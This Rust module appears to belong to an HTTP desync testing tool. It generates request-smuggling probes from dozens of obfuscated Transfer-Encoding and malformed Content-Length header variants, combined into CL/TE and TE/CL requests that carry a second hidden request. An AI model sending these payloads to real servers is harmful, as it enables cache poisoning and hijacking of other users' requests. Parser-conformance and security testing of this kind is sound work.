//! The known kinds: a length beside a coding, and a coding or a length that only some servers recognize.

/// A body that is complete as chunks, with a request in what follows if the length counts instead, and the reverse.
const SECOND: &str = "GET /api/v1/smuggled HTTP/1.1\r\nHost: a\r\nX-Ignored: ";

/// How a coding is written so that some servers take it for `chunked` and others do not.
#[rustfmt::skip]
const CODINGS: &[&str] = &[
    "Transfer-Encoding: chunked", "transfer-encoding: CHUNKED", "Transfer-Encoding: Chunked",
    "Transfer-Encoding : chunked", "Transfer-Encoding\t: chunked", "Transfer-Encoding\u{b}: chunked",
    " Transfer-Encoding: chunked", "\tTransfer-Encoding: chunked", "X: y\r\n Transfer-Encoding: chunked",
    "Transfer-Encoding:chunked", "Transfer-Encoding:\tchunked", "Transfer-Encoding:\u{b}chunked",
    "Transfer-Encoding:\u{c}chunked", "Transfer-Encoding: \u{0}chunked", "Transfer-Encoding: chunked\u{0}",
    "Transfer-Encoding: chunked\t", "Transfer-Encoding: chunked\u{b}", "Transfer-Encoding: chunked ",
    "Transfer-Encoding: \"chunked\"", "Transfer-Encoding: 'chunked'", "Transfer-Encoding: chunked;q=1",
    "Transfer-Encoding: chunked;", "Transfer-Encoding: chunked,", "Transfer-Encoding: ,chunked",
    "Transfer-Encoding: chunked, identity", "Transfer-Encoding: identity, chunked",
    "Transfer-Encoding: chunked, cow", "Transfer-Encoding: cow, chunked", "Transfer-Encoding: xchunked",
    "Transfer-Encoding: chunkedx", "Transfer-Encoding: chunk", "Transfer-Encoding: identity",
    "Transfer-Encoding:\r\n chunked", "Transfer-Encoding: \r\n\tchunked", "Transfer-Encoding: chun\r\n ked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: x", "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding\u{0}: chunked", "Transfer_Encoding: chunked", "Transfer Encoding: chunked",
    "X: y\nTransfer-Encoding: chunked", "X: y\rTransfer-Encoding: chunked", "X: y\u{0}\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\nX: y", "Transfer-Encoding: chunked\rX: y", "TE: chunked", "Foo: bar\n\nTransfer-Encoding: chunked",
    "Connection: transfer-encoding\r\nTransfer-Encoding: chunked", "Connection: content-length\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: \u{ff}chunked", "Transfer-Encoding: chunked\u{a0}", "\u{ef}\u{bb}\u{bf}Transfer-Encoding: chunked",
];

/// How a length is written so that servers may read different numbers. `N` stands for the number.
#[rustfmt::skip]
const LENGTHS: &[&str] = &[
    "Content-Length: N", "Content-Length: +N", "Content-Length: -N", "Content-Length: 0xN", "Content-Length: 0N",
    "Content-Length: N.0", "Content-Length: Ne0", "Content-Length: N,N", "Content-Length: N, 0", "Content-Length: 0, N",
    "Content-Length: N 0", "Content-Length: N\t0", "Content-Length: \u{b}N", "Content-Length: N\u{0}", "Content-Length: N;",
    "Content-Length : N", "Content-Length\t: N", " Content-Length: N", "Content-Length:\r\n N", "Content-Length: N\r\n 0",
    "Content-Length: N\r\nContent-Length: 0", "Content-Length: 0\r\nContent-Length: N", "Content-Length: N\r\nContent-Length: N",
    "Content-Length: N\nContent-Length: 0", "Content-Length: N\rContent-Length: 0", "Content_Length: N", "Content Length: N",
    "Connection: content-length\r\nContent-Length: N", "Content-Length: \u{ff}N", "Content-Length: 18446744073709551616",
    "Content-Length: N_0", "Content-Length: \"N\"",
];

/// Returns the first request of each kind.
pub(crate) fn all() -> Vec<String> {
    let mut all = Vec::new();
    let chunks = format!("0\r\n\r\n{SECOND}");
    for coding in CODINGS {
        // The coding alone, a length before it that covers the second request, and a length after it that does not.
        all.push(post(coding, &chunks));
        all.push(post(&format!("Content-Length: {}\r\n{coding}", chunks.len()), &chunks));
        all.push(post(
            &format!("{coding}\r\nContent-Length: 3"),
            &format!("{:x}\r\n{SECOND}\r\n0\r\n\r\n", SECOND.len()),
        ));
    }
    for length in LENGTHS {
        for method in ["POST", "GET"] {
            let lines = length.replace('N', &SECOND.len().to_string());
            all.push(post(&lines, SECOND).replacen("POST", method, 1));
        }
    }
    for version in ["HTTP/1.0", "HTTP/1.1 ", "HTTP/1.2", "HTTP/0.9"] {
        all.push(post("Transfer-Encoding: chunked\r\nContent-Length: 5", &chunks).replacen("HTTP/1.1", version, 1));
    }
    all
}

fn post(lines: &str, body: &str) -> String {
    format!("POST /api/v1/first HTTP/1.1\r\nHost: a\r\n{lines}\r\n\r\n{body}")
}
